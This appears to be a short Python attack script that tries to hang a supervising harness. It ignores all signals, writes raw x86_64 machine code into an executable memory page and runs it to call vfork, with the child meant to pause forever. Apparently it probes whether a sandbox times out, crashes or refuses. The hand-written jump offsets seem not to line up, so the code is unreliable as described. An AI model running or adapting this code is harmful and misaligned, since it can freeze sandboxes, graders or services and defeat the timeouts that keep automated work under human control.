"""Goal: hang in vfork, where only the child can wake the parent"""
# held: timeout crashed refused

import ctypes, platform, signal, mmap

CODE = bytes.fromhex('b83a0000000f05 85c0 7507 b8220000000f05 ebf9 c3'.replace(' ', ''))  # vfork; the child pauses for ever

def attack():
    if platform.machine() != 'x86_64':
        return False
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(CODE)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    return False
